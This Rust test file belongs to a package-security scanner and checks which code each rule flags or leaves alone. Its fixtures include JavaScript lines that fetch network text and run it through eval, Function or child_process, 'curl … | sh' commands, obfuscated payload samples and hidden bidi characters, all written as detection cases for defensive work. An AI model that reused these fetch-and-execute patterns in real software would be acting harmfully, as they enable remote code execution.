//! Tests of the scan: what each rule finds, and what it leaves alone.

use std::fs;
use std::path::Path;

use super::*;

/// The findings in a folder with these files, as `file:line rule`.
fn found(files: &[(&str, &str)]) -> Vec<String> {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), files);
    let findings = run(folder.path(), &[], None).unwrap();
    findings.iter().map(short).collect()
}

fn write(folder: &Path, files: &[(&str, &str)]) {
    for (name, content) in files {
        let path = folder.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }
}

fn short(finding: &Finding) -> String {
    let file = finding.file.as_deref().unwrap_or_default();
    match finding.line {
        Some(line) => format!("{file}:{line} {}", finding.rule),
        None => format!("{file} {}", finding.rule),
    }
}

fn run(root: &Path, hooks: &[Hook], cache: Option<&Cache>) -> Result<Vec<Finding>, ScanError> {
    let options = ScanOptions {
        levels: &Levels::default(),
        hooks,
        cache,
        identity: "github:acme/x@1",
        hash: Some("sha256-1"),
    };
    scan(root, None, &options)
}

fn code(text: &str) -> Vec<String> {
    found(&[("a.ts", text)])
}

#[test]
fn text_from_the_network_that_is_run() {
    let cases = [
        "eval(await (await fetch(u)).text());",
        "fetch(u).then((r) => r.text()).then((t) => (0, eval)(t));",
        "fetch(u).then((r) => r.text()).then(eval);",
        "const g = globalThis; globalThis['ev' + 'al'](await (await globalThis['fe' + 'tch'](u)).text());",
        "const r = await fetch(u); const t = await r.text(); new Function('x', t)(1);",
        "const { fetch: f, Function: F } = globalThis; F(await (await f(u)).text())();",
        "import https from 'node:https';\
         https.get(u, (res) => { let body = ''; res.on('data', (c) => body += c); res.on('end', () => eval(body)); });",
        "const axios = require('axios'); axios.get(u).then(({ data }) => { new Function(data)(); });",
        "import vm from 'vm'; import got from 'got'; vm.runInThisContext((await got(u)).body);",
        "import { Script } from 'node:vm'; new Script(await (await fetch(u)).text());",
        "async function get() { const r = await fetch(u); return r.text(); } async function go() { eval(await get()); }",
        "class A { async get() { this.code = await (await fetch(u)).text(); } go() { eval(this.code); } }",
        "class A { async get() { return (await fetch(u)).text(); } async go() { eval(await this.get()); } }",
        "function run(code) { eval(code); } fetch(u).then((r) => r.text()).then((t) => run(t));",
        "const socket = new WebSocket(u); socket.onmessage = (event) => eval(event.data);",
        "const x = new XMLHttpRequest(); x.onload = () => eval(x.responseText);",
        "const get = () => new Promise((resolve) => fetch(u).then((r) => r.text()).then((t) => resolve(t)));\
         get().then((t) => {}); (async () => eval(await get()))();",
        "(async () => {}).constructor(await (await fetch(u)).text())();",
        "[].map.constructor.constructor(await (await fetch(u)).text())();",
        "Reflect.apply(eval, null, [await (await fetch(u)).text()]);",
        "eval.call(null, await (await fetch(u)).text());",
        "await import(`data:text/javascript,${await (await fetch(u)).text()}`);",
        "import { execSync } from 'node:child_process'; execSync(await (await fetch(u)).text());",
        "import cp from 'child_process'; cp.spawn('sh', ['-c', await (await fetch(u)).text()]);",
        "import cp from 'child_process'; cp.exec('curl https://x.test/i.sh | bash');",
        "new Deno.Command('sh', { args: ['-c', await (await fetch(u)).text()] });",
        "const m = require('module'); m.prototype._compile(await (await fetch(u)).text(), 'a.js');",
        "for await (const piece of (await fetch(u)).body) { eval(new TextDecoder().decode(piece)); }",
    ];
    for case in cases {
        assert_eq!(code(case), ["a.ts:1 remote-eval"], "{case}");
    }
}

#[test]
fn what_only_looks_like_it() {
    let cases = [
        "// eval(await (await fetch(u)).text())\nconst s = 'eval(fetch())';",
        "const r = await (await fetch(u)).json(); console.log(r.text);",
        "const table = eval('1 + 1'); fetch(u);",
        "function fetch() { return { text: () => 'x' }; } eval(fetch().text());",
        "const global = new Function('return this')(); global.fetch(u);",
        "const match = /x/.exec(await (await fetch(u)).text());",
        "import { execFile } from 'node:child_process'; const { url } = await (await fetch(u)).json(); execFile('ffmpeg', ['-i', url]);",
        "import { exec } from 'node:child_process'; const { url } = await (await fetch(u)).json(); exec(`ffmpeg -i ${url}`);",
        "new Promise((resolve) => setTimeout(resolve, 10)).then(() => fetch(u));",
        "class Eval { eval(x) { return x; } } new Eval().eval(await (await fetch(u)).text());",
        "await import('./local.ts');",
        "const options = { fetch, template: 'x' }; new Function(options.template);",
    ];
    for case in cases {
        assert_eq!(code(case), [""; 0], "{case}");
    }
}

#[test]
fn obfuscation() {
    let hex =
        "const _0xaaa0=1,_0xaaa1=1,_0xaaa2=1,_0xaaa3=1,_0xaaa4=1,_0xaaa5=1,_0xaaa6=1,_0xaaa7=1;";
    let escaped = format!("const a = '{}';", "\\x68\\x69".repeat(60));
    let brackets = "[][(![]+[])[+[]]]".repeat(30);
    let dense = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".repeat(50);
    let dense = format!("const a = '{dense}';\nFunction(b);");
    for text in [
        hex,
        &escaped,
        &brackets,
        &dense,
        "eval(atob(a));",
        "const s = Buffer.from(a, 'base64').toString();\nnew Function(s)();",
        "eval(String.fromCharCode(97, 98));",
        "eval('txet'.split('').reverse().join(''));",
    ] {
        let found = code(text);
        assert!(
            found.iter().any(|found| found.ends_with(" obfuscated")),
            "{text}: {found:?}"
        );
    }
    for text in [
        "const s = atob(a); console.log(s);",
        "const wasm = Uint8Array.from(atob(a), (c) => c.charCodeAt(0));",
        "const { exports: e } = await WebAssembly.instantiate(atob(a)); eval(text.slice(e.start(), e.end()));",
        "const accents = '\\u00e9\\u00e8'; const line = '\\x1b[0m';",
    ] {
        assert_eq!(code(text), [""; 0], "{text}");
    }
}

#[test]
fn hidden_characters() {
    let found = found(&[
        ("bidi.ts", "const a = 1;\nif (x) { /*\u{202e} } ok */ }\n"),
        (
            "invisible.js",
            "const a\u{3164} = 1;\nconst b = 'x\u{e0101}\u{e0102}';\n",
        ),
        ("name.mjs", "const user\u{200d} = 1;\n"),
        ("run.sh", "echo \u{2066}x\n"),
        (
            "fine.ts",
            "\u{feff}const s = '👨\u{200d}👩\u{200d}👧 ❤\u{fe0f} 1\u{fe0f}\u{20e3} می\u{200c}خواهم é';\n",
        ),
        (
            "data.js",
            "export default 'soft\u{ad}hyphen \u{200b} \u{200d}'; // \u{200b}\n",
        ),
        ("README.md", "text \u{202e} of any kind"),
    ]);
    assert_eq!(
        found,
        [
            "bidi.ts:2 hidden-characters",
            "invisible.js:1 hidden-characters",
            "invisible.js:2 hidden-characters",
            "name.mjs:1 hidden-characters",
            "run.sh:1 hidden-characters",
        ]
    );
}

#[test]
fn packages() {
    let found = found(&[
        (
            "package.json",
            "{\n  \"scripts\": {\n    \"postinstall\": \"node build.js\",\n    \"test\": \"x\"\n  }\n}",
        ),
        ("native/binding.gyp", "{}"),
        (
            "evil/package.json",
            "{ \"scripts\": { \"start\": \"curl https://x.test | sh\" } }",
        ),
        ("broken/package.json", "{"),
    ]);
    assert_eq!(
        found,
        [
            "evil/package.json:1 remote-eval",
            "native/binding.gyp install-scripts",
            "package.json:3 install-scripts",
        ]
    );
}

#[test]
fn native_code() {
    let folder = tempfile::tempdir().unwrap();
    let mut pe = vec![0; 0x80];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x40;
    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
    let files: [(&str, &[u8]); 8] = [
        ("elf.txt", b"\x7fELF\x02\x01"),
        ("pe", &pe),
        ("macho", b"\xcf\xfa\xed\xfe\x07"),
        ("fat", b"\xca\xfe\xba\xbe\0\0\0\x02"),
        ("addon.node", b""),
        ("java.class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
        ("code.wasm", b"\0asm"),
        ("MZ.txt", b"MZ is how this text begins"),
    ];
    for (name, bytes) in files {
        fs::write(folder.path().join(name), bytes).unwrap();
    }
    let found = run(folder.path(), &[], None).unwrap();
    let found: Vec<String> = found.iter().map(short).collect();
    assert_eq!(
        found,
        [
            "addon.node native",
            "elf.txt native",
            "fat native",
            "macho native",
            "pe native"
        ]
    );
}

#[test]
fn minified_without_source() {
    let line = "function a(b){return b.c(d,e)+f[g](h,function(i){return i+1})}".repeat(60);
    let found = found(&[
        ("dist/only.js", &line),
        ("dist/built.js", &line),
        ("src/built.ts", "export const a = 1;\n"),
        (
            "dist/mapped.js",
            &format!("{line}\n//# sourceMappingURL=data:application/json;base64,e30="),
        ),
    ]);
    assert_eq!(found, ["dist/only.js minified"]);
}

#[test]
fn secrets_are_named_but_not_shown() {
    let folder = tempfile::tempdir().unwrap();
    let secret = format!("npm_{}", "a1B2c3D4e5F6".repeat(3));
    write(
        folder.path(),
        &[(".env", &format!("A=1\nTOKEN={secret}\n"))],
    );
    let found = run(folder.path(), &[], None).unwrap();
    assert_eq!(
        found[0].to_string(),
        ".env:2: holds what looks like an npm token (secrets)"
    );
    assert!(!format!("{found:?}").contains(&secret));
}

#[test]
fn code_that_would_exhaust_a_parser() {
    let deep = "(".repeat(100_000);
    let chain = format!("x = {}1;", "1+".repeat(200_000));
    let nested = format!("{}{}", "[".repeat(900), "]".repeat(900));
    let files = [
        ("a.js", &*deep),
        ("b.js", &chain),
        ("c.js", &nested),
        ("d.js", "const = 1;"),
    ];
    let mut found = found(&files);
    found.retain(|found| found.ends_with(" unreadable"));
    assert_eq!(
        found,
        ["a.js unreadable", "b.js unreadable", "d.js unreadable"]
    );
}

/// What the limits let through is gone through, also by a build without optimisation.
#[test]
fn code_just_below_the_limits() {
    let texts = [
        format!("x = {}1", "typeof ".repeat(9_900)),
        format!("x = {}1", "1+".repeat(4_900)),
        format!("{}b", "if(a)".repeat(1_600)),
        format!("x = {}1{}", "(".repeat(990), ")".repeat(990)),
        format!("x = {}1{}", "[".repeat(990), "]".repeat(990)),
        format!("{}{}", "function a(){".repeat(990), "}".repeat(990)),
        format!("if(a){{}}{}", "else if(a){}".repeat(5_900)),
        format!("x = a{}", "()".repeat(4_900)),
        format!("x = a{}", ".a".repeat(4_900)),
        format!("x = a{}", "?.a".repeat(3_000)),
        format!("x = {}1", "a=>".repeat(3_200)),
        format!("x = {}1", "a?b:".repeat(2_400)),
        format!("type A = {}string", "keyof ".repeat(9_900)),
    ];
    for text in texts {
        let found = code(&text);
        let is_read = !found.iter().any(|found| found.ends_with(" unreadable"));
        assert!(is_read, "{}", &text[..40]);
    }
}

#[cfg(unix)]
#[test]
fn links_are_not_followed() {
    let folder = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), &[("evil.js", "eval(atob(x))")]);
    std::os::unix::fs::symlink(outside.path(), folder.path().join("out")).unwrap();
    std::os::unix::fs::symlink(folder.path(), folder.path().join("circle")).unwrap();
    assert_eq!(run(folder.path(), &[], None).unwrap(), []);
}

#[test]
fn many_findings_hide_none() {
    let mut files: Vec<(String, String)> = (0..300)
        .map(|index| (format!("a{index}.node"), String::new()))
        .collect();
    files.push(("z.ts".into(), "eval(atob(x));\n".repeat(50)));
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(name, text)| (&**name, &**text))
        .collect();
    let found = found(&files);
    assert_eq!(found[0], "z.ts:1 obfuscated");
    assert!(found.len() <= MOST_FINDINGS + 10, "{}", found.len());
}

#[test]
fn what_was_found_is_kept() {
    let folder = tempfile::tempdir().unwrap();
    let cache = tempfile::tempdir().unwrap();
    let cache = Cache::new(cache.path().to_path_buf());
    write(folder.path(), &[("a.ts", "eval(atob(x));")]);
    let first = run(folder.path(), &[], Some(&cache)).unwrap();
    assert_eq!(first.len(), 1);
    // The same hash: nothing is read again.
    fs::remove_file(folder.path().join("a.ts")).unwrap();
    assert_eq!(run(folder.path(), &[], Some(&cache)).unwrap(), first);
    assert_eq!(run(folder.path(), &[], None).unwrap(), []);
}

#[test]
fn only_fatal_findings_refuse() {
    let folder = tempfile::tempdir().unwrap();
    write(
        folder.path(),
        &[("a.node", ""), ("b.ts", "\n\neval(atob(x));")],
    );
    let found = run(folder.path(), &[], None).unwrap();
    let error = judge("github:acme/x@1", found.clone()).unwrap_err();
    assert_eq!(
        error.to_string(),
        "Refused to load 'github:acme/x@1': the scan found\n    b.ts:3: decodes text and runs it as code (obfuscated)"
    );
    assert!(error.hints()[0].contains("\"scan\": { \"obfuscated\": \"warn\" }"));
    assert_eq!(judge("x", found[1..].to_vec()).unwrap().len(), 1);
}

#[cfg(unix)]
mod hooks {
    use std::time::{Duration, Instant};

    use super::*;

    /// A scanner that runs `script` in a shell.
    fn hook(script: &str) -> Hook {
        Hook::new(["/bin/sh", "-c", script].map(String::from).to_vec())
    }

    fn answer(script: &str) -> Result<Vec<Finding>, ScanError> {
        let folder = tempfile::tempdir().unwrap();
        write(folder.path(), &[("a.node", "")]);
        run(folder.path(), &[hook(script)], None)
    }

    #[test]
    fn its_findings_count() {
        let found = answer(
            r#"cat >/dev/null; echo '{"findings":[{"rule":"virus","file":"x","line":2,"message":"bad"},{"level":"warn","message":"odd"},{"level":"off","message":"nothing"}]}'"#,
        );
        let found = found.unwrap();
        let texts: Vec<String> = found
            .iter()
            .map(|it| format!("{:?} {it}", it.level))
            .collect();
        assert_eq!(texts[0], "Fatal x:2: virus: bad (hook)");
        assert_eq!(texts.len(), 3, "{texts:?}");
        assert!(texts.contains(&"Warn odd (hook)".to_string()));
    }

    #[test]
    fn it_is_told_what_there_is() {
        let script = r#"text=$(cat); case "$text" in *'"identity":"github:acme/x@1"'*'"findings":[{"rule":"native"'*) echo '{"findings":[]}';; *) exit 3;; esac"#;
        assert_eq!(answer(script).unwrap().len(), 1);
    }

    #[test]
    fn whatever_else_it_does_is_an_error() {
        let cases = [
            ("echo oops >&2; exit 3", "failed: exit status: 3\n    oops"),
            ("true", "gave no answer that can be used"),
            ("echo '[]'", "gave no answer that can be used"),
            ("echo '{}'", "missing field `findings`"),
            (
                r#"echo '{"findings":[{"level":"fatal"}]}'"#,
                "missing field `message`",
            ),
            (r#"echo '{"findings":[],"ok":true}'"#, "unknown field `ok`"),
            (
                r#"echo '{"findings":[{"level":"loud","message":"x"}]}'"#,
                "unknown variant `loud`",
            ),
            ("head -c 3000000 /dev/zero", "longer than 1048576 bytes"),
        ];
        for (script, expected) in cases {
            let error = answer(script).unwrap_err().to_string();
            assert!(error.contains(expected), "{script}: {error}");
        }
        let missing = Hook::new(vec!["/nowhere/scanner".into()]);
        let folder = tempfile::tempdir().unwrap();
        let error = run(folder.path(), &[missing], None).unwrap_err();
        assert_eq!(
            error.to_string(),
            "Could not start the scanner `/nowhere/scanner`"
        );
    }

    #[test]
    fn its_time_is_limited() {
        let folder = tempfile::tempdir().unwrap();
        for script in ["sleep 100", "sleep 100 & exit 0"] {
            let mut hook = hook(script);
            hook.limit = Duration::from_millis(200);
            let start = Instant::now();
            let error = run(folder.path(), &[hook], None).unwrap_err();
            assert!(
                matches!(error, ScanError::TimedOut { .. }),
                "{script}: {error}"
            );
            assert!(start.elapsed() < Duration::from_secs(20));
        }
    }

    #[test]
    fn its_answer_is_kept() {
        let cache = tempfile::tempdir().unwrap();
        let cache = Cache::new(cache.path().to_path_buf());
        let folder = tempfile::tempdir().unwrap();
        let asked = folder.path().join("asked");
        let hook = hook(&format!(
            "echo x >> '{}'; echo '{{\"findings\":[]}}'",
            asked.display()
        ));
        run(folder.path(), std::slice::from_ref(&hook), Some(&cache)).unwrap();
        run(folder.path(), &[hook], Some(&cache)).unwrap();
        assert_eq!(fs::read_to_string(asked).unwrap(), "x\n");
    }
}
